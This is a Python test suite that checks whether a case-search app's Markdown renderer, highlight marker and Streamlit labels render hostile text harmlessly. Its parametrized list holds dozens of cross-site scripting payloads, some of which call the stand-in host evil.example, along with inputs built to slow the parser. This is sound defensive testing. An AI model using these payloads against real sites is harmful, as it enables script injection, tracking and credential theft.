"""Stored text on a page: Markdown works, and nothing in it does anything else (acceptance item S07)."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from casebase.domain.query import Span
from casebase.services.rendering import render_markdown, render_marked
from casebase.ui.components.text import label_text

TAGS = {"p", "br", "ul", "ol", "li", "strong", "em", "code", "pre", "blockquote", "a", "h3", "h4", "h5", "h6", "hr"}
TAGS |= {"table", "thead", "tbody", "tr", "th", "td"}
ATTRIBUTES = {("a", "href"), ("a", "rel"), ("a", "title")}
HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/track.png'>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='https://example.org' onclick='alert(1)'>x</a>",
    "<style>body{background:url(http://evil.example)}</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<form action=http://evil.example><input name=password></form>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<div>\n\n*x*\n\n<script>alert(1)</script>\n\n</div>",
    "<p><details open ontoggle=alert(1)>",
    "![x](http://evil.example/track.png)",
    "![x][1]\n\n[1]: http://evil.example/track.png",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](x)',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    '[x](https://example.org "onmouseover=alert(1)")',
    "[x](https://example.org' onclick='alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))",
    "### <script>alert(1)</script>",
    "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x02klzzwxh:0000\x03",
)


class _Read(HTMLParser):
    """What a browser would make of some HTML: its tags, attributes and text."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.links: list[str] = []
        self.text = ""
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(tag, name) for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name == "href"]

    def handle_data(self, data: str) -> None:
        self.text += data


def assert_inert(source: str) -> None:
    page = _Read(source)
    assert page.tags <= TAGS
    assert page.attributes <= ATTRIBUTES
    for link in page.links:
        scheme = re.match(r"[\s\x00-\x1f]*([a-z][a-z0-9+.-]*):", link, re.IGNORECASE)
        assert scheme is None or scheme[1].lower() in {"http", "https", "mailto"}, link


@pytest.mark.parametrize("source", HOSTILE)
def test_s07_hostile_text_comes_out_inert(source: str) -> None:
    assert_inert(render_markdown(source))


@pytest.mark.parametrize("source", HOSTILE)
def test_s07_hostile_text_stays_inert_inside_other_text(source: str) -> None:
    assert_inert(render_markdown(f"Trước *{source}* sau\n\n1. {source}\n\n{source}"))


@given(source=st.text(st.sampled_from("<>[]()!\"'`*_&;:/\\ \n\tahjsx0=-#|~"), max_size=80) | st.text(max_size=80))
@example(source="[a](b\n" * 20)
def test_s07_any_text_comes_out_inert(source: str) -> None:
    assert_inert(render_markdown(source))


@pytest.mark.parametrize("tag", ["<script>alert(1)</script>", "<b>đậm</b>", "<img src=x>", "a < b"])
def test_raw_html_is_shown_as_text(tag: str) -> None:
    assert _Read(render_markdown(tag)).text.strip() == tag


def test_an_image_is_left_out() -> None:
    assert "evil" not in render_markdown("![ảnh](http://evil.example/track.png)")


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("*một* **hai** `ba`", "<p><em>một</em> <strong>hai</strong> <code>ba</code></p>"),
        ("1. một\n2. hai", "<ol>\n<li>một</li>\n<li>hai</li>\n</ol>"),
        ("- một\n- hai", "<ul>\n<li>một</li>\n<li>hai</li>\n</ul>"),
        ("### Nhỏ", "<h3>Nhỏ</h3>"),
        ("> trích", "<blockquote>\n<p>trích</p>\n</blockquote>"),
    ],
)
def test_markdown_works(source: str, expected: str) -> None:
    assert render_markdown(source).strip() == expected


def test_a_table_is_a_table() -> None:
    assert {"table", "thead", "tbody", "tr", "th", "td"} <= _Read(render_markdown("| a | b |\n|---|---|\n| 1 | 2 |")).tags


@pytest.mark.parametrize("link", ["https://example.org/a?b=c", "http://example.org", "mailto:a@example.org"])
def test_a_link_works_and_tells_the_other_side_nothing(link: str) -> None:
    page = render_markdown(f"[x]({link})")
    assert _Read(page).links == [link]
    assert 'rel="noopener noreferrer nofollow"' in page


SLOW = {
    "brackets": "[" * 20_000,
    "images": "![a](" * 4_000,
    "links": "[a](b " * 3_333,
    "quotes": "> " * 10_000,
    "tags": "<" * 20_000,
    "stars": "*a " * 6_000,
    "lists": "".join(f"{'  ' * depth}- a\n" for depth in range(130)),
}


@pytest.mark.parametrize("source", SLOW.values(), ids=SLOW.keys())
def test_text_made_to_take_minutes_is_shown_as_it_stands(source: str) -> None:
    page = _Read(render_markdown(source))
    assert page.tags <= TAGS
    assert page.text


# --- a quoted sentence ----------------------------------------------------------------------------------------------------------


def test_matched_words_are_marked() -> None:
    assert render_marked("giấy khai sinh", (Span(5, 14),)) == "giấy <mark>khai sinh</mark>"


def test_without_matches_the_sentence_is_plain() -> None:
    assert render_marked("giấy khai sinh", ()) == "giấy khai sinh"


@pytest.mark.parametrize("source", HOSTILE)
def test_s07_a_hostile_sentence_is_quoted_as_text(source: str) -> None:
    marked = render_marked(source, (Span(1, 4),))
    assert _Read(marked).tags == {"mark"}
    assert html.unescape(marked.replace("<mark>", "").replace("</mark>", "")) == html.unescape(html.escape(source))


@given(sentence=st.text(max_size=60), cuts=st.lists(st.integers(0, 60), max_size=6, unique=True))
def test_marking_loses_no_character_and_opens_no_tag(sentence: str, cuts: list[int]) -> None:
    places = sorted(min(cut, len(sentence)) for cut in cuts)
    spans = tuple(Span(start, end) for start, end in zip(places[::2], places[1::2], strict=False))
    marked = render_marked(sentence, spans)
    assert marked.count("<mark>") == marked.count("</mark>") == len(spans)
    assert marked.replace("<mark>", "").replace("</mark>", "") == html.escape(sentence)


# --- text in Streamlit's labels -------------------------------------------------------------------------------------------------


def shown(label: str) -> str:
    """Return the HTML that CommonMark with GitHub's tables and strikethrough makes of a label."""
    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(label).strip()


@pytest.mark.parametrize(
    "title",
    [
        "*đậm* _nghiêng_ **x** __y__ ~~z~~",
        "[x](javascript:alert(1)) ![x](http://evil.example/x.png) <https://example.org>",
        "<script>alert(1)</script> &amp; &lt;",
        "$x^2$ :material/home: :red[đỏ] :smile: :blue-background[x]",
        "# tiêu đề",
        "1. một",
        "- hai",
        "> ba",
        "---",
        "===",
        "+ bốn",
        "`mã` | bảng |",
        "\\*",
        "Một cửa: 100% trực tuyến",
    ],
)
def test_s07_a_label_shows_every_character_as_it_is(title: str) -> None:
    assert shown(label_text(title)) == f"<p>{html.escape(title)}</p>".replace("&#x27;", "'")


@given(title=st.text(st.characters(exclude_categories=["C", "Z"]) | st.just(" "), min_size=1, max_size=60))
def test_s07_any_label_shows_every_character_as_it_is(title: str) -> None:
    line = " ".join(title.split()) or "x"
    assert html.unescape(shown(label_text(line)).removeprefix("<p>").removesuffix("</p>")) == line
    assert "<" not in shown(label_text(line)).removeprefix("<p>").removesuffix("</p>")


@pytest.mark.parametrize("directive", [":red[x]", ":material/home:", ":smile:", "$x$", "$$x$$", ":streamlit:"])
def test_s07_what_only_streamlit_reads_is_escaped_too(directive: str) -> None:
    escaped = label_text(directive)
    assert not re.search(r"(?<!\\)[:$\[]", escaped)
    assert escaped.replace("\\", "") == directive
